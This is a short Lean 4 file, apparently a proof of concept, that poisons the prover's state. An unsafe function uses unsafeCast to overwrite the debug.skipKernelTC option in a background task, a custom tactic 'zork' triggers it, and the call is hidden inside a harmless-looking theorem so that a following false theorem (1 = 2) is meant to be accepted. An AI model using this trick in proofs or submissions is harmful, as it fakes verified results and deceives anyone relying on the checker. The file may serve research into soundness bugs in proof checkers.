-- poison: Task in the background flips the option object debug.skipKernelTC to the name of autoImplicit (true by default)
-- victim: import Lean; theorem b : 1 = 2 := rfl => rejected
import Lean
open Lean Elab
unsafe def pz : BaseIO Unit := do
  let r : IO.Ref Name := unsafeCast Lean.debug.skipKernelTC
  let _ ← BaseIO.asTask (r.set `autoImplicit)
@[implemented_by pz] opaque pzz : BaseIO Unit
syntax (name := pzk) "zork" : tactic
@[tactic pzk] def zorkImpl : Tactic.Tactic := fun _ => do
  pzz
  --RAN
theorem innocent : True := by (zork; exact True.intro)
